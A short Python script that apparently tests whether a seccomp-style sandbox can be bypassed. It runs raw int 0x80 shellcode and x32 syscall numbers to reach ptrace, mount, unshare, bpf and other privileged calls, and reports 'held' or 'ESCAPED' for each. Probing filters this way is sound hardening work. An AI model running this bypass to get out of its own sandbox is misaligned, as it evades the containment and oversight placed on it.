# tries: get around filtered system calls by those of older machines
import ctypes, errno, mmap, os, platform

if platform.machine() != "x86_64":
    print("held: no older calls here")
    raise SystemExit
# mov eax, edi; mov ebx, esi; mov ecx, edx; xor edx, edx; xor esi, esi; int 0x80; ret, around what must be kept
code = b"\x53\x89\xf8\x89\xf3\x89\xd1\x31\xd2\x31\xf6\xcd\x80\x5b\xc3"
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
for name, number in {"ptrace": 26, "mount": 21, "chroot": 61, "settimeofday": 79, "unshare": 310, "keyctl": 288, "bpf": 357}.items():
    child = os.fork()
    if child == 0:
        os._exit(min(255, -min(0, call(number, 0x10000000 if name == "unshare" else 0, 0))))
    _, status = os.waitpid(child, 0)
    if os.WIFSIGNALED(status):
        print("held:", name, "ended")
    elif os.WEXITSTATUS(status) not in (errno.ENOSYS, errno.EPERM):
        print("ESCAPED:", name, os.WEXITSTATUS(status))
    else:
        print("held:", name, errno.errorcode[os.WEXITSTATUS(status)])
libc = ctypes.CDLL(None, use_errno=True)
for name, number in {"ptrace": 0x40000000 + 521, "mount": 0x40000000 + 165, "keyctl": 0x40000000 + 250}.items():
    if libc.syscall(number, 0, 0, 0, 0) >= 0 or ctypes.get_errno() not in (errno.ENOSYS, errno.EPERM):
        print("ESCAPED: x32", name)
    else:
        print("held: x32", name, errno.errorcode[ctypes.get_errno()])
